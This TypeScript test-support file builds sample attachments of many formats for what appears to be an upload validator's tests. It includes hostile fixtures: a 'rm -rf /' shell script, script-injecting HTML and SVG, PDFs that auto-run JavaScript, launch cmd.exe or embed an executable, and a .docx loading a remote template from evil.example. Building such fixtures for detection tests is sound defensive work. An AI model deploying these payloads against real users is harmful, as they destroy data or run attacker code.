/** Small real files of each kind an attachment may be (and some it may not), built here: no binary fixture is committed. */
import { deflateSync } from "node:zlib";
import { zipParts } from "../../data/test/support/xlsx-writer.ts";

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`;

export const pdf = (text = "情况说明") =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n% ${text}\ntrailer <</Root 1 0 R>>\n%%EOF\n`,
    "utf8",
  );

/** a 1×1 PNG */
export const png = () => Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");

/** the start of a JPEG (JFIF) */
export const jpeg = () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);

export const gif = () => Buffer.concat([Buffer.from("GIF89a", "latin1"), Buffer.from([1, 0, 1, 0, 0, 0, 0, 0x3b])]);

export const webp = () => Buffer.concat([Buffer.from("RIFF", "latin1"), Buffer.from([26, 0, 0, 0]), Buffer.from("WEBPVP8 ", "latin1"), Buffer.alloc(14)]);

export function bmp(): Buffer {
  const b = Buffer.alloc(58);
  b.write("BM", 0, "latin1");
  b.writeUInt32LE(58, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(1, 18);
  b.writeInt32LE(1, 22);
  return b;
}

export const tiff = () => Buffer.from([0x49, 0x49, 0x2a, 0x00, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]);

export const heic = () => Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1")]);

export const docx = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: RELS },
    { name: "word/document.xml", data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>` },
  ]);

export const xlsx = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: RELS },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    { name: "xl/worksheets/sheet1.xml", data: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>` },
  ]);

export const pptx = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "ppt/presentation.xml", data: "<p:presentation/>" },
  ]);

/** a Word document with a VBA project (.docm) */
export const docm = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "word/document.xml", data: "<w:document/>" },
    { name: "word/vbaProject.bin", data: "VBA" },
  ]);

/** an OFD (GB/T 33190) document: a ZIP with OFD.xml at its root */
export const ofd = () =>
  zipParts([
    { name: "OFD.xml", data: `<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>` },
    { name: "Doc_0/Document.xml", data: "<ofd:Document/>" },
  ]);

/** a plain ZIP, whatever is in it */
export const plainZip = () =>
  zipParts([
    { name: "说明.txt", data: "见附件" },
    { name: "word/readme.txt", data: "not a document" },
  ]);

/**
 * An OLE compound file (the legacy .doc/.xls/.ppt container) whose directory holds these entries: a 512-byte header,
 * then 128-byte directory entries (UTF-16LE name, NUL-terminated, its length in bytes at 0x40), and `text` after them.
 */
export function ole(names: readonly string[], text = ""): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  const entries = ["Root Entry", ...names].map((name, i) => {
    const entry = Buffer.alloc(128);
    const encoded = Buffer.from(`${name}\0`, "utf16le");
    encoded.copy(entry);
    entry.writeUInt16LE(encoded.length, 0x40);
    entry[0x42] = i === 0 ? 5 : 2;
    return entry;
  });
  return Buffer.concat([header, ...entries, Buffer.from(text, "utf16le")]);
}

/** the start of a Windows program */
export function exe(): Buffer {
  const b = Buffer.alloc(256);
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(0x80, 0x3c);
  b.write("PE\0\0", 0x80, "latin1");
  return b;
}

export const elf = () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
export const machO = () => Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]);
export const shellScript = () => Buffer.from("#!/bin/sh\nrm -rf /\n", "utf8");
export const html = () => Buffer.from("\uFEFF  <!DOCTYPE html><html><script>alert(1)</script></html>", "utf8");
export const svg = () =>
  Buffer.from(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`, "utf8");
export const rar = () => Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]);
export const text = () => Buffer.from("这是一段普通文字，不是可以附加的文件类型。", "utf8");

/** A PDF whose catalog (object 1) has these entries, and these objects after it. */
const pdfWith = (catalog: string, ...objects: string[]) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R ${catalog}>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n${objects.map((o, i) => `${i + 3} 0 obj ${o} endobj\n`).join("")}trailer <</Root 1 0 R>>\n%%EOF\n`,
    "latin1",
  );

/** JavaScript run on opening (the name spelled with a #xx escape, as PDF allows) */
export const pdfJavaScript = () => pdfWith("/OpenAction 3 0 R", "<</Type /Action /S /J#61vaScript /JS (app.alert\\(1\\))>>");
/** a launch action starting a program */
export const pdfLaunch = () => pdfWith("/OpenAction <</S /Launch /F (cmd.exe)>>");
/** a file embedded in the PDF (its attachments' name tree) */
export const pdfEmbeddedFile = () =>
  pdfWith(
    "/Names <</EmbeddedFiles <</Names [(run.exe) 3 0 R]>>>>",
    "<</Type /Filespec /F (run.exe) /EF <</F 4 0 R>>>>",
    "<</Type /EmbeddedFile /Length 2>> stream\nMZ\nendstream",
  );

/** the JavaScript action kept in a compressed object stream, as PDF 1.5 writers do */
export function pdfJavaScriptInObjectStream(): Buffer {
  const objects = "3 0 <</S /JavaScript /JS (app.launchURL\\('http://evil.example'\\))>>";
  const data = deflateSync(Buffer.from(objects, "latin1"));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n`, "latin1"),
    Buffer.from(`4 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length}>> stream\n`, "latin1"),
    data,
    Buffer.from("\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "latin1"),
  ]);
}

/** an image whose bytes happen to spell "/JS " and "/Launch": data, not a dictionary */
export function pdfImageSpellingJs(): Buffer {
  const pixels = Buffer.from("\u0000\u0001/JS \u0002/Launch\u0003/EmbeddedFile ", "latin1");
  return pdfWith("", `<</Type /XObject /Subtype /Image /Width 1 /Height 1 /Length ${pixels.length}>> stream\n${pixels.toString("latin1")}\nendstream`);
}

const OOXML_TYPES = (overrides = "") =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`;
const WORD_DOCUMENT = {
  name: "word/document.xml",
  data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>`,
};
const rels = (...relationships: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join("")}</Relationships>`;

/** a .docx loading its template from the network when opened (remote template injection) */
export const docxRemoteTemplate = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    WORD_DOCUMENT,
    {
      name: "word/_rels/settings.xml.rels",
      data: rels(
        `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
      ),
    },
  ]);

/** a .docx with a link (an external relationship that loads nothing) and a chart's embedded workbook: a real document */
export async function docxWithLinkAndChart(): Promise<Buffer> {
  const chart = await xlsx();
  return zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    WORD_DOCUMENT,
    {
      name: "word/_rels/document.xml.rels",
      data: rels(
        `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://www.huantai.gov.cn/" TargetMode="External"/>`,
      ),
    },
    { name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: () => [chart] },
  ]);
}

/** a .docx embedding this file as an OLE object */
export const docxEmbedding = (object: Buffer) =>
  zipParts([{ name: "[Content_Types].xml", data: OOXML_TYPES() }, WORD_DOCUMENT, { name: "word/embeddings/oleObject1.bin", data: () => [object] }]);

/** a .docx whose VBA project is under another name, declared by its content type */
export const docxRenamedVba = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES(`<Override PartName="/word/foo.bin" ContentType="application/vnd.ms-office.vbaProject"/>`) },
    WORD_DOCUMENT,
    { name: "word/foo.bin", data: "VBA" },
  ]);

/** an .xlsx with an Excel 4.0 macro sheet */
export const xlsxMacroSheet = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    { name: "xl/macrosheets/sheet1.xml", data: `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>` },
  ]);

/** an .xlsx with an ActiveX control */
export const xlsxActiveX = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    { name: "xl/activeX/activeX1.xml", data: "<ax:ocx/>" },
  ]);

/** a BIFF8 BOUNDSHEET record: a sheet of this type (0 worksheet, 1 Excel 4.0 macro sheet) and name */
export function boundSheet(type: number, name: string): Buffer {
  const record = Buffer.alloc(12 + name.length);
  record.writeUInt16LE(0x85, 0);
  record.writeUInt16LE(8 + name.length, 2);
  record[9] = type;
  record[10] = name.length;
  record.write(name, 12, "latin1");
  return record;
}

/** a legacy .xls whose workbook stream holds these sheets (the records after the directory) */
export const xlsWithSheets = (...sheets: Buffer[]) => Buffer.concat([ole(["Workbook"]), ...sheets]);
